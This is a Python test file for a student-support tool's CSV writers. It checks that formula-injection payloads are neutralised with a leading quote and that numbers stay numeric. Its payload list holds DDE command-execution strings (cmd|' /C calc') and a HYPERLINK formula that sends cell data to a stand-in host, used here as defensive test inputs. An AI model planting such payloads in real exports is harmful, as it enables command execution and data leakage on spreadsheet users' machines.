"""CSV formula injection: every CSV writer neutralises text cells a spreadsheet would
run, and leaves numbers (negative ones included) as numbers."""

from __future__ import annotations

import csv
import os
import stat
from dataclasses import replace
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from client.cli import app
from common.csv_output import FORMULA_TRIGGERS, neutralise_cell, neutralise_frame, write_csv
from simulations.network import Network, generate_network, write_network
from simulations.runner import prepare_data
from simulations.scenario import DataSpec, load_scenario
from tests.client.conftest import harmonised_frame, write_text
from tests.client.model_files import random_model, save_checkpoint

PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?q="&A1,"Cliquez ici")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
PLAIN = ["-0.5", "+3", "-1,5", "-2e-3", "-", "école", "Dupont, Marie", 'dit "bonjour"', ""]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_get_a_leading_quote(payload: str) -> None:
    assert neutralise_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", [*PLAIN, -0.5, 3, 2.5e-3, True, None])
def test_numbers_and_plain_text_are_unchanged(value: object) -> None:
    assert neutralise_cell(value) == value


def _cells(path: Path, delimiter: str = ",") -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle, delimiter=delimiter))


def _assert_safe(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_TRIGGERS):
                assert cell == "-" or pd.notna(pd.to_numeric(cell.replace(",", "."),
                                                             errors="coerce")), cell


def test_write_csv_neutralises_text_cells_and_names_and_keeps_numbers(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "=1+1": PAYLOADS,
            "score": [-0.5, -1.25, 0.0, 1.0, -3.0, 2.0, 7.0, -9.5],
            "text_number": ["-0.5", "-1", "+2", "3", "-4,5", "5", "6", "7"],
            "flag": [True, False] * 4,
        }
    )

    path = write_csv(tmp_path / "out.csv", frame)

    rows = _cells(path)
    assert rows[0][0] == "'=1+1"
    assert [row[0] for row in rows[1:]] == ["'" + p for p in PAYLOADS]
    _assert_safe(rows)
    back = pd.read_csv(path)
    assert back["score"].tolist() == frame["score"].tolist()  # still numeric
    assert [row[2] for row in rows[1:]] == frame["text_number"].tolist()  # as written
    assert neutralise_frame(frame)["score"].dtype == frame["score"].dtype
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]  # no temporary file left


def test_support_priorities_csv_is_safe_to_open(tmp_path: Path) -> None:
    frame = harmonised_frame(len(PAYLOADS) * 2).astype(object)
    for i, payload in enumerate(PAYLOADS):
        frame.loc[2 * i, "student_id"] = payload
        frame.loc[2 * i + 1, "school_id"] = payload
    data = tmp_path / "x.csv"
    frame.to_csv(data, index=False)  # the centre's own (hostile) extract, as exported
    model = save_checkpoint(tmp_path / "model.pt", random_model())
    policy = write_text(tmp_path / "p.toml", "min_records = 1\nmax_invalid_fraction = 1.0\n")

    result = CliRunner().invoke(app, ["score", "--model", str(model), "--data", str(data),
                                      "--policy", str(policy), "--out", str(tmp_path / "out")])

    assert result.exit_code == 0, result.output
    path = tmp_path / "out" / "support-priorities.csv"
    rows = _cells(path, ";")  # French spreadsheets' separator (the command's default language)
    _assert_safe(rows)
    cells = {cell for row in rows for cell in row}
    assert {"'" + p.strip() for p in PAYLOADS} <= cells  # ids are read stripped
    table = pd.read_csv(path, sep=";", decimal=",", encoding="utf-8-sig")
    assert pd.api.types.is_float_dtype(table["probability"])
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600


def test_generated_network_csv_files_are_safe(tmp_path: Path) -> None:
    network = generate_network(centres=2, students=400, seed=3)
    first = network.centres[0].centre_id
    frame = network.frames[first].copy()
    frame["student_id"] = frame["student_id"].astype(object)
    frame.loc[0, "student_id"] = PAYLOADS[1]
    hostile = Network(network.centres, {**network.frames, first: frame}, network.seed)

    files = write_network(hostile, tmp_path, fmt="csv")

    rows = _cells(files[0])
    _assert_safe(rows)
    assert rows[1][rows[0].index("student_id")] == "'" + PAYLOADS[1]
    back = pd.read_csv(files[0])
    assert (back["grade_trend"] < 0).any()  # negative numbers stay numbers
    assert pd.api.types.is_float_dtype(back["grade_trend"])


def test_split_centre_extracts_of_a_simulation_are_safe(tmp_path: Path) -> None:
    source = tmp_path / "source.csv"
    frame = harmonised_frame(20).astype(object).assign(centre=["A", "B"] * 10)
    frame.loc[0, "student_id"] = PAYLOADS[0]
    frame.loc[1, "grade_math"] = "-"
    frame.to_csv(source, index=False)
    mapping = write_text(tmp_path / "m.toml", 'centre_column = "centre"\n'
                         '[columns.grade_math]\nfrom = "grade_math"\nmissing = ["-"]\n')
    scenario = load_scenario("tiny")
    scenario = replace(scenario, data=DataSpec(source=str(source), mapping=str(mapping)))

    files, students = prepare_data(scenario, tmp_path / "data")

    assert students == 20
    for path in files:
        _assert_safe(_cells(path))
    assert "'" + PAYLOADS[0] in {c for row in _cells(files[0]) for c in row}
    assert "-" in {c for row in _cells(files[1]) for c in row}  # the missing code survives
